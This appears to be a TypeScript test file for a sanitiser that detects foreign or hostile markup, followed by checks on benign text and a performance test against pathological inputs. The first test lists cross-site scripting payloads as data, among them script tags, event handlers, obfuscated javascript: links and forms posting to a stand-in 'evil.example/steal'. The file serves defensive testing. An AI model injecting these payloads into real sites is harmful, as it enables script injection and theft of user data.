import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findForeign, isOwnAddress } from './foreign-content.rules.ts';

const isOwn = isOwnAddress(new Set(['www.localhost']));
const kinds = (text: string) => findForeign(text, isOwn).map(({ kind }) => kind);

test('[W8] what runs, frames or sends is found however it is written', () => {
  const cases: readonly (readonly [string, string])[] = [
    ['<script src=//evil.example/x.js></script>', 'script'],
    ['<SCRIPT\n>alert(1)</SCRIPT>', 'script'],
    ['&lt;script&gt;alert(1)&lt;/script&gt;', 'script'],
    ['{"text":"\\u003cscript src=\\"https://evil.example\\"\\u003e"}', 'script'],
    ['<iframe src="https://evil.example/">', 'frame'],
    ['<iframe srcdoc="hello">', 'frame'],
    ['<object data="https://evil.example/x">', 'frame'],
    ['<form action="https://evil.example/steal" method="post">', 'form target'],
    ['<form action=//evil.example/steal>', 'form target'],
    ['<button formaction="https://evil.example/">', 'form target'],
    ['<img src=x onerror=alert(1)>', 'handler'],
    ['<svg/onload=alert(1)>', 'handler'],
    ['<details open ONTOGGLE="x()">', 'handler'],
    ['<a href="javascript:alert(1)">', 'script link'],
    ['<a href=" java\tscript:alert(1)">', 'script link'],
    ['<a href="&#106;avascript:alert(1)">', 'script link'],
    ['{"href":"javascript:alert(1)"}', 'script link'],
    ['<a href="data:text/html,<b>x">', 'script link'],
    ['<base href="https://evil.example/">', 'base'],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', 'redirect'],
  ];
  for (const [text, kind] of cases)
    assert.ok(
      kinds(text).some((found) => found === kind),
      `${text} → ${kinds(text).join()}`,
    );
});

test('[W8] ordinary texts, ordinary markup and what stays within the estate are not foreign', () => {
  for (const text of [
    'Ships < 500 GT and > 300 GT; see "On the form of tokens"',
    'A note on JavaScript: it is not needed here',
    '<p class="lead">Text</p><a href="https://other.example/report">report</a>',
    '<form action="/search" method="get"><input name="q"></form>',
    '<form action="https://www.localhost/search">',
    '<iframe src="/video/1">',
    '<img src="/pictures/1.png" alt="one = two">',
    '[{"kind":"link","href":"https://www.example.org/a?b=c"}]',
    'eyJhbGciOiJFZERTQSJ9.eyJ4IjoxfQ.c2lnbmF0dXJl',
    '<td>onboard=yes</td>',
  ])
    assert.deepEqual(kinds(text), [], text);
});

test('[W8] a hostile text costs little: four megabytes of tags are read within seconds', () => {
  const startedAt = performance.now();
  for (const hostile of [
    '<a '.repeat(1_400_000),
    `<a ${'x="'.repeat(1_000_000)}`,
    '&lt;'.repeat(1_000_000),
    '<'.repeat(4_000_000),
  ])
    findForeign(hostile, isOwn);
  assert.ok(performance.now() - startedAt < 20_000, `${performance.now() - startedAt} ms`);
});
